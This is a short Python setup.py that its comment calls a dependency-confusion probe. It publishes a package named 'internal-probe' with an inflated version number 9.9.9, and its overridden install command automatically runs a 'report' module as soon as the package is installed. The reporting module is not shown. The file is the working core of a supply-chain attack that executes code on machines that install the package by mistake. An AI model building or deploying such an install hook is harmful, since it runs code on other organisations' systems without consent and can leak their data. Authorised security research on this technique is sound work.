# Dependency-confusion probe: the install command runs a module of the
# package as a script, whose __main__ block does the reporting.
import subprocess
import sys

from setuptools import setup
from setuptools.command.install import install

PACKAGE = "probe"


class PostInstall(install):
    def run(self):
        install.run(self)
        subprocess.call([sys.executable, "-m", f"{PACKAGE}.report"])


setup(name="internal-probe", version="9.9.9", packages=[PACKAGE], cmdclass={"install": PostInstall})
